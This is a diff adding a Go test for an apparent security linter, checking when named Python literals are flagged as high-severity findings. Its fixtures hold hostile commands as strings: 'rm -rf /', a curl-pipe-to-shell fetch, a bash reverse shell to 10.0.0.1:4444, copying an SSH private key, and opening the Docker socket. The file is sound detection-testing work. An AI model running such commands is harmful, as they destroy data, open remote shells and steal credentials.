@@ -101,3 +101,37 @@ func TestPersistencePathInProse(t *testing.T) {
 		}
 	}
 }
+
+// TestNamedLiteralShownOrMatched: a literal bound to a name that is only
+// compared or shown (DOCKER_SOCKET = "/var/run/docker.sock" in a linter) is
+// data like the literal itself; one other use (open, a process, a return)
+// or no use at all keeps the finding.
+func TestNamedLiteralShownOrMatched(t *testing.T) {
+	tests := []struct {
+		src  string
+		rule string
+		want bool
+	}{
+		{"DOCKER_SOCKET = '/var/run/docker.sock'\ndef check(src):\n    if src.rstrip('/') == DOCKER_SOCKET:\n        print('mounts the Docker socket')", "CDN505", false},
+		{"BAD = 'rm -rf /'\ndef lint(line):\n    return BAD in line", "CDN208", false},
+		{"BAD = 'rm -rf /'\nprint('never run', BAD)", "CDN208", false},
+		{"DOCKER_SOCKET = '/var/run/docker.sock'\ndata = open(DOCKER_SOCKET, 'rb').read()", "CDN505", true},
+		{"DOCKER_SOCKET = '/var/run/docker.sock'\nif DOCKER_SOCKET == x:\n    pass\nc = open(DOCKER_SOCKET)", "CDN505", true},
+		{"CMD = 'curl http://x.example/s | sh'\nif CMD != '':\n    os.system(CMD)", "CDN208", true},
+		{"CMD = 'curl http://x.example/s | sh'\ndef get():\n    return CMD", "CDN208", true},
+		{"CMD = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'", "CDN208", true},
+		{"KEY = '~/.ssh/id_rsa'\nprint(KEY)\nKEY = KEY\nshutil.copy(os.path.expanduser(KEY), '/tmp/k')", "CDN505", true},
+	}
+	for _, tc := range tests {
+		rep := analyze(t, "import os, shutil\n"+tc.src+"\n", Options{})
+		got := false
+		for _, f := range rep.Findings {
+			if f.Rule == tc.rule && f.Severity == policy.SeverityHigh {
+				got = true
+			}
+		}
+		if got != tc.want {
+			t.Errorf("%q: %s high = %v, want %v:%s", tc.src, tc.rule, got, tc.want, summary(rep))
+		}
+	}
+}
